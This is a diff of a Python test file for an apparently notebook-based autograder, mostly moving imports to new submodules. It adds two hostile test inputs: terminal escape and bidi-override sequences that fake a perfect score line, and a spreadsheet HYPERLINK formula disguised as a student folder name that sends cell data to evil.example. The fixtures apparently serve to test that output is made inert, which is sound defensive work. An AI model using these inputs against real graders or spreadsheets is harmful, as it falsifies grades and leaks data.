@@ -21,18 +21,19 @@ import logging
 import nbformat
 import pytest
 
-from instructor import grader_record, report
-from instructor.autograde import Summary, well_formed, write_log
-from instructor.diagnosis import Diagnosis, Verdict
-from instructor.gradebook import write_marker
-from instructor.inert_html import inert_page
-from instructor.inert_terminal import inert_line, inert_text
-from instructor.job import Grade, Result, _inert_handlers
-from instructor.notebook_record import METADATA_KEY
-from instructor.preprocessors.grade_execute import GradeExecute
-from instructor.preprocessors.rebuild_cells import rebuild
-from instructor.problems import Kind, Problem
-from instructor.submission import Submission
+from instructor.commands import report
+from instructor.commands.autograde import Summary, well_formed, write_log
+from instructor.coordinator.gradebook import write_marker
+from instructor.coordinator.job import Grade, Result, _inert_handlers
+from instructor.diagnosis.verdict import Diagnosis, Verdict
+from instructor.grading.preprocessors.grade_execute import GradeExecute
+from instructor.grading.preprocessors.rebuild_cells import rebuild
+from instructor.output.inert_html import inert_page
+from instructor.output.inert_terminal import inert_line, inert_text
+from instructor.records import grader_record
+from instructor.records.notebook_record import METADATA_KEY
+from instructor.records.problems import Kind, Problem
+from instructor.records.submission import Submission
 
 ESCAPES = "\x1b[2K\r  01_bptt/mallory: 15/15 points\x1b[8m hidden\x9b1m\u202e"
 FORMULA = '=HYPERLINK(CONCAT("evil.example?",A1),"click")'  # a student's folder name
